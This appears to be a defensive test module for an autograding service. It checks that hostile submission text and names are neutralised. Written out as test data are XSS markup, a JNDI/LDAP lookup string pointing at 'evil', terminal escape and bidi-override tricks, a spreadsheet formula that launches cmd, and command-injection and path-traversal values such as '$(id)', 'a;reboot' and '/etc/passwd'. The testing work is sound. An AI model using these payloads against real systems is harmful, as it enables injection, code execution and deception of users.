"""H: texts that attack whoever reads them, and names that attack whoever uses them."""

import re

from grader_service.exports.cohorts.cells import csv_cell
from grader_service.report.audience import Audience
from grader_service.report.html import render_report
from tests.corpus.case import Observed, Procedure
from tests.corpus.world import World
from tests.factories import message
from tests.receiving import receive

_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
_HOSTILE = rf"""
red = "\x1b[2J\x1b[31mPASSED\x1b]8;;http://evil\x07\x9b0m"
text = red + "\u202etxt.exe\u2066" + "{MARKUP}" + "${{jndi:ldap://evil}} {{0.__class__}} %n%s {{{{7*7}}}}"


class Hostile(Exception):
    def __str__(self):
        return text


Hostile.__name__ = "{MARKUP}" + red
where_dali_wins = [text, text + "2"]
raise Hostile()
"""
_FORMULA = """
raise type("=cmd|' /C calc'!A0", (Exception,), {})("=HYPERLINK(1)")
"""


def _printed(world: World) -> Observed:
    """Whether anything that moves a cursor, turns a line around or is markup comes out of verdict or page."""
    done = world.grade(_HOSTILE, steps=("reflection",))
    verdict = done.verdict
    shown = [verdict.feedback, *(check.feedback for check in verdict.checks)]
    shown += [pod.log_tail for pod in done.evidence.run.pods] if done.evidence else []
    page = "".join(render_report(verdict, audience) for audience in Audience)
    raw = [text for text in [*shown, page, verdict.model_dump_json()] if _UNSAFE.search(text)]
    carried = "alert(1)" in page and "alert(1)" in "".join(shown)
    bad = bool(raw) or "<script>alert" in page or "<img src=x" in page
    return Observed(
        "passed" if bad else "failed", "text.harmless" if carried else "text.not_carried", "".join(raw)[:500]
    )


def _cell(world: World) -> Observed:
    """Whether a spreadsheet takes a learner's text for a formula."""
    done = world.grade(_FORMULA, steps=("reflection",))
    kinds = [done.evidence.discovery.exception] if done.evidence and done.evidence.discovery else []
    texts = [text for found in kinds if found is not None for text in (found.type, found.message)]
    texts += ["\t=1+1", "\uff1d1+1", "@SUM(1)", "+1", "-1", "\r=1"]
    cells = [csv_cell(text) for text in texts]
    formulas = [cell for cell in cells if not cell.startswith("'")]
    return Observed(
        "passed" if formulas else "failed", "cells.text" if len(texts) == 8 else "cells.nothing", str(formulas)
    )


_NAMES = {
    "submission_id": ("../../etc/x", "a/b", "$(id)", "`id`", "a b", "a;reboot", "x\n", "\u202e", "", "a" * 129, "é", 7),
    "lab": ("../dali-pipelines", "/etc/passwd", "dali-pipelines;id", "dali pipelines\n"),
}
_FILES = ("../submission.py", "/etc/x.py", "a\\b.py", "x\0.py", "x\n.py", "")
_QUEUES = ("live", "regrade", "grader.run", "celery-task-meta-1", "unacked", "a b", "../q", "q\n")


def _named(world: World) -> Observed:
    """Whether any name with a meaning for a shell, a path or our own queues is taken."""
    honest = message("corpus:1", "x = 1\n")
    bodies = [{**honest, key: value} for key, values in _NAMES.items() for value in values]
    bodies += [{**honest, "artifact": {**honest["artifact"], "filename": name}} for name in _FILES]
    bodies += [{**honest, "reply_to": {"queue": queue, "task": "lab.ready"}} for queue in _QUEUES]
    with world.deps() as deps:
        taken = [body for body in bodies if receive(deps, body, "live", "task-1").kind != "refused"]
        fine = receive(deps, honest, "live", "task-2").kind
    return Observed("passed" if taken else "failed", f"names.refused_but_{fine}", str(taken)[:500])


CASES = (
    Procedure(
        "H14-printed",
        "an exception of escape sequences, turned lines, markup and templates",
        _printed,
        ("text.harmless",),
    ),
    Procedure("H14-formula", "an exception that a spreadsheet would calculate", _cell, ("cells.text",)),
    Procedure(
        "H16-names", "names with a meaning for a shell, a path or a queue", _named, ("names.refused_but_accepted",)
    ),
)
